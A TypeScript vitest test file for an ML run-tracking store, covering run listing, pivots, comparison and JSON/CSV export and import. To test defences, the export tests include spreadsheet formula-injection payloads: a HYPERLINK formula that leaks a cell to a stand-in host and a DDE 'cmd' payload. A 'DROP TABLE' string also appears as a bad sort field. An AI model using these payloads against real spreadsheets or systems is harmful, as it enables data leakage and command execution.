import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openRaw } from '../../test/rawSqlite.ts';
import { makeTempDir } from '../../test/tempDir.ts';
import type { KernelLabError } from '../errors.ts';
import { createService, type Service } from '../service.ts';
import fc from 'fast-check';
import { csvCell } from './exportCsv.ts';
import { downsample } from './queries.ts';
import { RunStore, type NewRun } from './RunStore.ts';
import type { RunStatus } from '../contract/runs.ts';

let tmp: { dir: string; cleanup: () => void };
let store: RunStore;
beforeEach(() => {
  tmp = makeTempDir();
  store = RunStore.open(join(tmp.dir, 'k.db'));
});
afterEach(() => {
  store.close();
  tmp.cleanup();
});

/** One CSV record (RFC 4180 quoting) back into its cells. */
function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quoted && c === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (c === ',' && !quoted) {
      cells.push(cell);
      cell = '';
    } else cell += c;
  }
  cells.push(cell);
  return cells;
}

const base: NewRun = { name: 'cnn', modelSpec: { layers: [] }, dataset: 'mnist', backend: 'cpu', seed: 1, hyperparameters: {} };

/** kernelSize 3/5/7 × epochs 1/2, two repeats each; val_accuracy = 0.5 + kernel/100 + epochs/10 + repeat/1000. */
function sweep() {
  const experiment = store.createExperiment({ name: 'kernels' });
  const sw = store.createSweep({ name: 'k×e', spec: { axes: ['kernelSize', 'epochs'] }, experimentId: experiment.id });
  const ids: number[] = [];
  for (const kernelSize of [3, 5, 7]) {
    for (const epochs of [1, 2]) {
      for (const repeat of [0, 1]) {
        const run = store.createRun({
          ...base,
          name: `k${kernelSize}-e${epochs}-r${repeat}`,
          experimentId: experiment.id,
          sweepId: sw.id,
          seed: repeat,
          hyperparameters: { kernelSize, epochs, optimizer: { name: 'adam', learningRate: 0.001 } },
        });
        store.transition(run.id, 'running');
        const acc = 0.5 + kernelSize / 100 + epochs / 10 + repeat / 1000;
        store.logBatch(
          Array.from({ length: epochs }, (_, e) => [
            { runId: run.id, key: 'val_accuracy', step: e, epoch: e, value: acc - (epochs - 1 - e) * 0.05 },
            { runId: run.id, key: 'loss', step: e, epoch: e, value: 1 - acc },
          ]).flat(),
        );
        store.transition(run.id, 'completed');
        ids.push(run.id);
      }
    }
  }
  return { experiment, sweep: sw, ids };
}

describe('runs list', () => {
  it('shows chosen param and metric columns, sorted by a metric, filtered and paged', () => {
    const { sweep: sw, ids } = sweep();
    store.setTags(ids[0]!, ['baseline']);
    const page = store.listRuns({
      sweepId: sw.id,
      paramColumns: ['kernelSize', 'epochs', 'optimizer.name'],
      metricColumns: [
        { key: 'val_accuracy', field: 'best' },
        { key: 'loss', field: 'last' },
      ],
      sort: { by: 'metric:val_accuracy.best', dir: 'desc' },
      limit: 5,
    });
    expect(page.total).toBe(12);
    expect(page.rows).toHaveLength(5);
    expect(page.rows[0]).toMatchObject({ name: 'k7-e2-r1', params: { kernelSize: 7, epochs: 2, 'optimizer.name': 'adam' } });
    expect(page.rows[0]!.metrics['val_accuracy.best']).toBeCloseTo(0.771);
    const bests = page.rows.map((r) => r.metrics['val_accuracy.best'] as number);
    expect([...bests].sort((a, b) => b - a)).toEqual(bests);

    const next = store.listRuns({ sweepId: sw.id, sort: { by: 'metric:val_accuracy.best', dir: 'desc' }, limit: 5, offset: 5 });
    expect(next.rows.map((r) => r.id)).not.toContain(page.rows[0]!.id);

    const filtered = store.listRuns({
      params: [
        { key: 'kernelSize', op: 'ge', value: 5 },
        { key: 'epochs', op: 'eq', value: 1 },
      ],
      metrics: [{ key: 'val_accuracy', field: 'best', min: 0.66 }],
      sort: { by: 'param:kernelSize', dir: 'asc' },
    });
    expect(filtered.rows.map((r) => r.name)).toEqual(['k7-e1-r0', 'k7-e1-r1']);
    expect(store.listRuns({ tag: 'baseline' }).rows.map((r) => r.id)).toEqual([ids[0]]);
    expect(store.listRuns({ params: [{ key: 'kernelSize', op: 'in', value: [3, 7] }] }).total).toBe(8);
    expect(store.listRuns({ status: ['running'] }).total).toBe(0);
  });

  it('names the bad field of a query', () => {
    const error = (() => {
      try {
        store.listRuns({ sort: { by: 'DROP TABLE runs' as 'id', dir: 'asc' } });
      } catch (e) {
        return e as KernelLabError;
      }
    })();
    expect(error?.code).toBe('invalid_input');
    expect(error?.message).toContain('sort.by');
  });
});

describe('series, compare and pivot', () => {
  it('downsamples with min/max buckets and keeps the best point', () => {
    const points = Array.from({ length: 1000 }, (_, i) => ({ step: i, value: Math.sin(i / 30) + (i === 613 ? 5 : 0) }));
    const kept = downsample(points, 50, 'max');
    expect(kept.length).toBeLessThanOrEqual(53);
    expect(kept).toContainEqual({ step: 613, value: points[613]!.value });
    expect(kept[0]!.step).toBe(0);
    expect(kept.at(-1)!.step).toBe(999);
    expect(kept.map((p) => p.step)).toEqual([...kept.map((p) => p.step)].sort((a, b) => a - b));
    // The series query applies it and reports the stored count.
    const id = store.createRun(base).id;
    store.logBatch(points.map((p) => ({ runId: id, key: 'val_accuracy', step: p.step, epoch: 0, value: p.value })));
    const series = store.metricSeries(id, { maxPoints: 50 });
    expect(series.counts.val_accuracy).toBe(1000);
    expect(series.series.val_accuracy!.some((p) => p.step === 613)).toBe(true);
  });

  it('compares runs: params with a diff-only flag, summaries and series', () => {
    const { ids } = sweep();
    const result = store.compareRuns({ ids: [ids[0]!, ids[11]!], diffOnly: true, keys: ['val_accuracy'] });
    expect(result.runs.map((r) => r.name)).toEqual(['k3-e1-r0', 'k7-e2-r1']);
    expect(result.params.map((p) => p.key)).toEqual(['epochs', 'kernelSize']);
    expect(result.params.find((p) => p.key === 'kernelSize')!.values).toEqual([3, 7]);
    const all = store.compareRuns({ ids: [ids[0]!, ids[11]!] });
    expect(all.params.find((p) => p.key === 'optimizer.name')).toEqual({ key: 'optimizer.name', values: ['adam', 'adam'], differs: false });
    expect(result.summaries.find((s) => s.key === 'val_accuracy')).toMatchObject({ kind: 'result', better: 'max' });
    expect(result.series.map((s) => [s.runId, s.points.length])).toEqual([
      [ids[0], 1],
      [ids[11], 2],
    ]);
    expect(() => store.compareRuns({ ids: [ids[0]!, 4242] })).toThrow(/4242 does not exist/);
  });

  it('pivots two params into the best metric per cell with count, mean and std over repeats', () => {
    const { sweep: sw } = sweep();
    const grid = store.pivot({ sweepId: sw.id, rowParam: 'kernelSize', colParam: 'epochs', metric: 'val_accuracy' });
    expect(grid.rows).toEqual([3, 5, 7]);
    expect(grid.cols).toEqual([1, 2]);
    expect(grid.cells).toHaveLength(6);
    const cell = grid.cells.find((c) => c.row === 5 && c.col === 2)!;
    expect(cell.count).toBe(2);
    expect(cell.best).toBeCloseTo(0.751);
    expect(cell.mean).toBeCloseTo(0.7505);
    expect(cell.std).toBeCloseTo(Math.sqrt(2 * 0.0005 ** 2));
    expect(cell.min).toBeCloseTo(0.75);
    expect(cell.max).toBeCloseTo(0.751);
    expect(store.getRun(cell.bestRunId!)!.name).toBe('k5-e2-r1');
    const byLoss = store.pivot({ sweepId: sw.id, rowParam: 'kernelSize', colParam: 'epochs', metric: 'loss' });
    expect(byLoss.better).toBe('min');
    expect(byLoss.cells.find((c) => c.row === 5 && c.col === 2)!.best).toBeCloseTo(1 - 0.751);
  });

  it('pivots only runs in the states asked for, whether listed once, twice or not at all', () => {
    const { sweep: sw, ids } = sweep();
    const q = { sweepId: sw.id, rowParam: 'kernelSize', colParam: 'epochs', metric: 'val_accuracy' } as const;
    const raw = openRaw(join(tmp.dir, 'k.db'));
    raw.prepare("UPDATE runs SET status = 'failed' WHERE id = ?").run(ids[0]!);
    raw.close();
    // One sweep (each run's rows looked up) and all runs (index ranges joined in JS) scope alike.
    for (const scope of [{ sweepId: sw.id }, {}]) {
      const count = (status?: RunStatus[]) =>
        store.pivot({ ...q, sweepId: undefined, ...scope, ...(status && { status }) }).cells.reduce((n, c) => n + c.count, 0);
      expect(count()).toBe(ids.length - 1);
      expect(count(['completed', 'completed'])).toBe(ids.length - 1);
      expect(count(['failed'])).toBe(1);
      expect(count(['completed', 'failed', 'completed'])).toBe(ids.length);
      expect(count([])).toBe(0);
    }
    expect(store.pivot({ ...q, status: [] }).rows).toEqual([]);
    expect(store.pivot({ ...q, status: ['failed'] }).cells[0]!.bestRunId).toBe(ids[0]);
  });
});

describe('export and import', () => {
  it('round-trips runs through a JSON export into another database, and a second import changes nothing', async () => {
    const { sweep: sw, ids } = sweep();
    const special = ids[3]!;
    const raw = openRaw(join(tmp.dir, 'k.db'));
    raw.prepare("UPDATE runs SET status = 'running' WHERE id = ?").run(special);
    raw.close();
    store.transition(special, 'diverged', { error: 'loss became NaN' });
    store.logBatch([
      { runId: special, key: 'loss', step: 5, epoch: 5, value: NaN },
      { runId: special, key: 'loss', step: 6, epoch: 5, value: Infinity },
    ]);
    store.setTags(special, ['nan']);
    store.setNote(special, 'diverged, "quoted", with, commas');
    store.addCheckpoint(special, { epoch: 1, kind: 'last', path: 'runs/x/last', bytes: 10, sha256: 'b'.repeat(64) });
    const derived = store.createRun({ ...base, status: 'completed', derivedFromRunId: ids[0]!, sweepId: sw.id, derivedEpochs: 1 });
    // A sweep created here and never queued is 'pending', which no sweep stays once its queueing
    // ends; an import reads a pending sweep nobody queues as paused (an export from before 0016).
    // A paused sweep goes and comes back as it is.
    expect(store.pauseSweep(sw.id)).toBe(true);
    const exported = store.exportRuns({ sweepId: sw.id }, 'json');
    expect(exported.runCount).toBe(13);

    const other = RunStore.open(join(tmp.dir, 'other.db'));
    try {
      expect(await other.importRuns(exported.content)).toEqual({ imported: 13, skipped: 0 });
      expect(await other.importRuns(exported.content)).toEqual({ imported: 0, skipped: 13 });
      expect(other.listRuns().total).toBe(13);
      const strip = (d: ReturnType<RunStore['runDetail']>) => ({
        ...d,
        id: 0,
        experimentId: 0,
        sweepId: 0,
        derivedFromRunId: d.derivedFromRunId === null ? null : 0,
        checkpoints: d.checkpoints.map((c) => ({ ...c, id: 0 })),
      });
      for (const id of [...ids, derived.id]) {
        const mine = store.runDetail(id);
        const theirs = other.runDetail(other.getRunByUuid(mine.uuid)!.id);
        expect(strip(theirs)).toEqual(strip(mine));
        expect(other.metricSeries(theirs.id)).toEqual({ ...store.metricSeries(id), runId: theirs.id });
      }
      const importedDerived = other.getRunByUuid(derived.uuid)!;
      expect(other.getRun(importedDerived.derivedFromRunId!)!.uuid).toBe(store.getRun(ids[0]!)!.uuid);
      // Export of the re-imported sweep equals the original, apart from the export time.
      const again = JSON.parse(other.exportRuns({ sweepId: other.listSweeps()[0]!.id }, 'json').content) as { exportedAt: number };
      expect({ ...again, exportedAt: 0 }).toEqual({ ...(JSON.parse(exported.content) as object), exportedAt: 0 });
    } finally {
      other.close();
    }
  });

  it('exports a CSV table with params and summaries as columns, and metric points as CSV', () => {
    const { ids } = sweep();
    store.setNote(ids[0]!, 'x');
    store.setTags(ids[0]!, ['a,b']);
    const table = store.exportRuns({ runIds: [ids[0]!, ids[1]!] }, 'csv');
    const lines = table.content.trim().split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[0]).toContain('param.kernelSize');
    expect(lines[0]).toContain('val_accuracy.best');
    expect(lines[1]).toContain('"a,b"');
    const points = store.exportRuns({ runIds: [ids[0]!] }, 'metrics-csv');
    expect(points.content.trim().split('\n')).toEqual([
      'run_uuid,run_name,key,step,epoch,wall_ms,value',
      expect.stringMatching(/,k3-e1-r0,loss,0,0,\d+,0\.37$/),
      expect.stringMatching(/,k3-e1-r0,val_accuracy,0,0,\d+,0\.63$/),
    ]);
  });

  it('neutralises CSV cells a spreadsheet would run as formulas, and keeps negative numbers as numbers', () => {
    const run = store.createRun({
      ...base,
      name: '=HYPERLINK("http://example.test/?leak="&A1,"open")',
      status: 'completed',
      hyperparameters: { note: "@SUM(1+1)*cmd|' /C calc'!A0", shift: -0.5, label: '-0.25', tab: '\tx', cr: '\r=1+1' },
    });
    store.setTags(run.id, ['+cmd']);
    store.logBatch([{ runId: run.id, key: 'loss', step: 0, epoch: 0, value: -Infinity }]);
    const [header, line] = store
      .exportRuns({ runIds: [run.id] }, 'csv')
      .content.trim()
      .split('\n');
    const cells = Object.fromEntries(header!.split(',').map((h, i) => [h, parseCsvLine(line!)[i]]));
    expect(cells.name).toBe('\'=HYPERLINK("http://example.test/?leak="&A1,"open")');
    expect(cells.tags).toBe("'+cmd");
    expect(cells['param.note']).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cells['param.tab']).toBe("'\tx");
    expect(cells['param.cr']).toBe("'\r=1+1");
    expect(cells['param.shift']).toBe('-0.5');
    expect(cells['param.label']).toBe('-0.25');
    expect(cells['loss.last']).toBe('-Infinity');
    const points = store
      .exportRuns({ runIds: [run.id] }, 'metrics-csv')
      .content.trim()
      .split('\n');
    expect(parseCsvLine(points[1]!)[1]).toBe(cells.name);
  });

  it('never writes a CSV cell that starts a formula, whatever the text (property)', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 30 }), fc.constantFrom('=', '+', '-', '@', '\t', '\r', ''), (text, lead) => {
        const value = lead + text;
        const [cell] = parseCsvLine(csvCell(value));
        // Unquoted back, the cell is the value itself unless the value could be read as a formula.
        if (/^[=+\-@\t\r]/.test(value) && !/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$|^[+-]?Infinity$/i.test(value))
          expect(cell).toBe(`'${value}`);
        else expect(cell).toBe(value);
      }),
      { numRuns: 300 },
    );
  });

  it('refuses an import that is not a KernelLab export, writing nothing', async () => {
    await expect(store.importRuns('{"format":"something"}')).rejects.toThrow(/format/);
    await expect(store.importRuns('not json')).rejects.toThrow(/not JSON/);
    expect(store.listRuns().total).toBe(0);
  });
});

describe('service methods and events', () => {
  let service: Service;
  afterEach(async () => service.close());

  it('answers runs.* and experiments.* through the contract, with wire-safe NaN, and emits run.updated', async () => {
    service = createService({ dataDir: join(tmp.dir, 'home'), shell: 'cli' });
    const seen: string[] = [];
    service.events.subscribe((e) => seen.push(e.name));
    const experiment = await service.call('experiments.create', { name: 'first' });
    expect((await service.call('experiments.list', {}))[0]).toMatchObject({ name: 'first', runCount: 0 });
    const s = service.context.store;
    const run = s.createRun({ ...base, experimentId: experiment.id, status: 'running' });
    s.logBatch([{ runId: run.id, key: 'loss', step: 0, epoch: 0, value: NaN }]);
    const list = await service.call('runs.list', { metricColumns: [{ key: 'loss', field: 'last' }] });
    expect(list.rows[0]!.metrics['loss.last']).toBe('NaN');
    expect(JSON.parse(JSON.stringify(list)).rows[0].metrics['loss.last']).toBe('NaN');
    await service.call('runs.setTags', { id: run.id, tags: ['x'] });
    expect(seen).toEqual(['run.updated', 'metrics.appended', 'run.updated']);
    await expect(service.call('runs.get', { id: 999 })).rejects.toMatchObject({ code: 'not_found' });
    await expect(service.call('runs.list', { limit: 0 })).rejects.toMatchObject({ code: 'invalid_input' });
    await expect(service.call('runs.delete', { id: run.id })).rejects.toMatchObject({
      code: 'conflict',
      message: expect.stringContaining('cancel it'),
    });
    s.transition(run.id, 'canceled');
    expect((await service.call('runs.delete', { id: run.id })).deleted).toBe(true);
  });
});
